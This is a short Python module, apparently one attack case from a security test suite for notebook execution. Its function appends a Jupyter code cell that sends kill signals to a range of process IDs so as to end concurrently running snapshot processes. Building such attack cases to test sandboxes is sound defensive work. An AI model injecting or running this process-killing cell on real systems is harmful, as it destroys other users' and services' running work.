from __future__ import annotations

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

WHY = "The last cell kills every snapshot that waits for its test."
FLAG = None


def attack(notebook: NotebookNode) -> None:
    code = "import os\nfor pid in range(os.getppid() + 1, 400):\n    if pid != os.getpid():\n        try:\n"
    code += "            os.kill(pid, 9)\n        except OSError:\n            pass"
    notebook.cells.append(new_code_cell(code))
